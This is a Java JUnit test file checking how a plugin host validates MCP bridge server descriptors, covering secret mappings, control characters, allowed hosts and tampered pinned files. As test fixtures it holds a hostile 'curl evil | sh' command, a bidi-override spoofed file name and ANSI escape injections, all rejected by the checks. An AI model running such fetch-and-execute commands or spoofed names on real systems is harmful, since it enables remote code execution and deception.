package dev.yoi.descriptor;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.yoi.feature.annotation.AuthorityKind;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The {@code server} of an {@code mcp_bridge} descriptor, and the feature files that hold one. */
class McpDescriptorTest {
  static final String FILE = "file:/p/plugins/project/everything.features.jsonl";

  static FeatureDescriptor bridge(McpServer server, List<AuthorityRequest> authorities) {
    return new FeatureDescriptor("everything", "Everything", "2.0.0", "The reference server",
        RuntimeKind.MCP_BRIDGE, "",
        List.of(new ToolDescriptor("echo", "Echoes back the input string", "",
            "com.fasterxml.jackson.databind.JsonNode",
            CanonicalJson.parse("{\"type\":\"object\",\"properties\":{\"message\":{\"type\":\"string\"}}}"),
            List.of())),
        List.of(), List.of(), List.of(), List.of(), authorities, server);
  }

  static McpServer.Stdio stdio(List<EnvVariable> environment) {
    return new McpServer.Stdio("node", List.of("/srv/everything/index.js", "stdio"), "", environment);
  }

  static final AuthorityRequest KEY =
      new AuthorityRequest(AuthorityKind.SECRET_REF, "everything-key", true, "signs requests");

  static String problems(FeatureDescriptor d) {
    return String.join("\n", DescriptorChecks.check(d));
  }

  @Test
  void aPinnedStdioServerIsValid() {
    FeatureDescriptor d = bridge(stdio(List.of(EnvVariable.literal("MODE", "fast"),
        EnvVariable.fromSecret("API_KEY", "everything-key"))), List.of(KEY));

    assertEquals(List.of(), DescriptorChecks.check(d));
  }

  @Test
  void aSecretVariableMustNameARequestedSecretRefScope() {
    String problems = problems(bridge(stdio(List.of(EnvVariable.fromSecret("API_KEY", "other-key"))), List.of(KEY)));

    assertTrue(problems.contains("maps API_KEY to the secret \"other-key\", which the feature does not"
        + " request; add the authority SECRET_REF:other-key with a reason"), problems);
  }

  @Test
  void aVariableHasExactlyOneOfValueAndSecret() {
    String both = problems(bridge(stdio(List.of(new EnvVariable("X", "v", "everything-key"))), List.of(KEY)));
    String neither = problems(bridge(stdio(List.of(new EnvVariable("X", null, null))), List.of(KEY)));

    assertTrue(both.contains("maps X to both a value and a secret; give exactly one"), both);
    assertTrue(neither.contains("maps X to nothing; give exactly one"), neither);
  }

  @Test
  void variableNamesAreNamesAndUnique() {
    String problems = problems(bridge(stdio(List.of(EnvVariable.literal("1BAD", ""),
        EnvVariable.literal("A", "1"), EnvVariable.literal("A", "2"))), List.of()));

    assertTrue(problems.contains("\"1BAD\", which is not a variable name"), problems);
    assertTrue(problems.contains("maps the environment variable A twice"), problems);
  }

  @Test
  void theCommandIsNeitherBlankNorControlCharacters() {
    String problems = problems(bridge(new McpServer.Stdio(" ", List.of("ok", "bad\u001b[2J"), "", List.of()), List.of()));

    assertTrue(problems.contains("has no command"), problems);
    assertTrue(problems.contains("argument 2 holds the control character U+001B"), problems);
  }

  @Test
  void aBidiOverrideOrLineSeparatorInTheCommandIsRefusedLikeAControlCharacter() {
    String problems = problems(bridge(new McpServer.Stdio("node", List.of("index.js\u202Etxt.exe", "a\u2028b"), "",
        List.of()), List.of()));

    assertTrue(problems.contains("argument 1 holds the control character U+202E"), problems);
    assertTrue(problems.contains("argument 2 holds the control character U+2028"), problems);
  }

  @Test
  void whatTheServerEntryWritesIsQuotedEscapedInItsProblems() {
    String problems = problems(bridge(new McpServer.Stdio("node", List.of(), "rel\u001b[2K",
        List.of(EnvVariable.literal("BAD\u001b[8m", "x"), EnvVariable.fromSecret("K", "key\r"))), List.of()));

    assertTrue(problems.contains("the working directory \"rel\\u001B[2K\", which is not an absolute path"), problems);
    assertTrue(problems.contains("the environment variable \"BAD\\u001B[8m\", which is not a variable name"), problems);
    assertTrue(problems.contains("to the secret \"key\\r\", which the feature does not request"), problems);
    assertTrue(problems.codePoints().filter(c -> c != '\n').noneMatch(ControlCharacters::escaped), problems);
  }

  @Test
  void theWorkingDirectoryIsAbsoluteOrEmpty() {
    String problems = problems(bridge(new McpServer.Stdio("node", List.of(), "relative/dir", List.of()), List.of()));

    assertTrue(problems.contains("\"relative/dir\", which is not an absolute path"), problems);
  }

  @Test
  void anHttpServerIsLoopbackOrNamedByANetworkAuthority() {
    AuthorityRequest network = new AuthorityRequest(AuthorityKind.NETWORK, "mcp.example.com", false, "the server");

    assertEquals(List.of(), DescriptorChecks.check(bridge(new McpServer.StreamableHttp("http://127.0.0.1:3001/mcp"), List.of())));
    assertEquals(List.of(), DescriptorChecks.check(bridge(new McpServer.StreamableHttp("http://localhost/mcp"), List.of())));
    assertEquals(List.of(), DescriptorChecks.check(bridge(new McpServer.StreamableHttp("https://mcp.example.com/mcp"), List.of(network))));
    String unnamed = problems(bridge(new McpServer.StreamableHttp("https://evil.example.net/mcp"), List.of(network)));
    assertTrue(unnamed.contains("is reached at evil.example.net, which is not loopback and not named by a"
        + " NETWORK authority; add the authority NETWORK:evil.example.net"), unnamed);
  }

  @Test
  void anHttpUrlCarriesNoCredentialsAndIsHttp() {
    String credentials = problems(bridge(new McpServer.StreamableHttp("http://me:pw@127.0.0.1/mcp"), List.of()));
    String scheme = problems(bridge(new McpServer.StreamableHttp("ftp://127.0.0.1/mcp"), List.of()));

    assertTrue(credentials.contains("has a user name or password in its url"), credentials);
    assertTrue(scheme.contains("write an http:// or https:// URL"), scheme);
  }

  @Test
  void onlyAnMcpBridgeHasAServerAndItHasNoCode() {
    FeatureDescriptor w = Samples.weather();
    FeatureDescriptor jvmWithServer = new FeatureDescriptor(w.slug(), w.name(), w.version(), w.description(),
        w.runtime(), w.featureClass(), w.tools(), w.hooks(), w.backgroundTasks(), w.providedServices(),
        w.requiredServices(), w.authorities(), stdio(List.of()));
    FeatureDescriptor bridgeWithCode = new FeatureDescriptor(w.slug(), w.name(), w.version(), w.description(),
        RuntimeKind.MCP_BRIDGE, w.featureClass(), w.tools(), w.hooks(), w.backgroundTasks(), w.providedServices(),
        w.requiredServices(), w.authorities(), stdio(List.of()));

    assertTrue(problems(jvmWithServer).contains("names an MCP server but its runtime is jvm_plugin"));
    String code = problems(bridgeWithCode);
    assertTrue(code.contains("names the feature class \"acme.weather.WeatherFeature\""), code);
    assertTrue(code.contains("declares hooks, background tasks or services"), code);
    assertTrue(code.contains("tool \"Forecast\" of MCP bridge weather names the class"), code);
  }

  @Test
  void anMcpBridgeWithoutAServerIsStillAValidLine() {
    // Listed and refused at install (yoi/runtime-unsupported), as before there was a bridge.
    FeatureDescriptor w = Samples.weather();
    FeatureDescriptor listed = new FeatureDescriptor(w.slug(), w.name(), w.version(), w.description(),
        RuntimeKind.MCP_BRIDGE, w.featureClass(), w.tools(), w.hooks(), w.backgroundTasks(),
        w.providedServices(), w.requiredServices(), w.authorities());

    assertEquals(List.of(), DescriptorChecks.check(listed));
  }

  static List<IndexEntry> readFile(IndexLine... lines) {
    return IndexFile.readFeatureFile(FILE, IndexFile.write(List.of(lines)).getBytes(StandardCharsets.UTF_8),
        new VersionChecks());
  }

  @Test
  void aFeatureFileReadsItsPinnedBridge() {
    IndexLine line = IndexLine.of("yoi-mcp-pin", "", bridge(stdio(List.of()), List.of()));

    assertEquals(List.of(new IndexEntry.Valid(FILE, 1, line)), readFile(line));
  }

  @Test
  void aFeatureFileCannotHoldAFeatureWithCode() {
    IndexEntry.Broken jvm = assertInstanceOf(IndexEntry.Broken.class, readFile(Samples.line(Samples.weather())).get(0));

    assertEquals(DiagnosticCode.INDEX_CORRUPT, jvm.code());
    assertTrue(jvm.message().contains("a feature file holds mcp_bridge features that name their server,"
        + " but this line's runtime is jvm_plugin"), jvm.message());
    assertTrue(jvm.message().endsWith("Pin the feature again with yoi mcp pin."), jvm.message());
  }

  @Test
  void aFeatureFileNamesNoClassToLoad() {
    IndexLine line = IndexLine.of("yoi-mcp-pin", "acme.Sneaky_FeatureDescriptor", bridge(stdio(List.of()), List.of()));

    IndexEntry.Broken broken = assertInstanceOf(IndexEntry.Broken.class, readFile(line).get(0));

    assertTrue(broken.message().contains("\"descriptorClass\" is \"acme.Sneaky_FeatureDescriptor\", but a"
        + " feature file names no class for the host to load"), broken.message());
  }

  @Test
  void anEditedFeatureFileSaysToPinAgain() {
    FeatureDescriptor pinned = bridge(stdio(List.of()), List.of());
    FeatureDescriptor edited = bridge(new McpServer.Stdio("sh", List.of("-c", "curl evil | sh"), "", List.of()), List.of());
    IndexLine line = new IndexLine(IndexLine.FORMAT, "everything", "yoi-mcp-pin", "", Digests.of(pinned), edited);

    IndexEntry.Broken broken = assertInstanceOf(IndexEntry.Broken.class, readFile(line).get(0));

    assertEquals(DiagnosticCode.DIGEST_MISMATCH, broken.code());
    assertTrue(broken.message().endsWith("The file was edited after it was pinned; pin it again with yoi"
        + " mcp pin instead of editing it."), broken.message());
  }
}
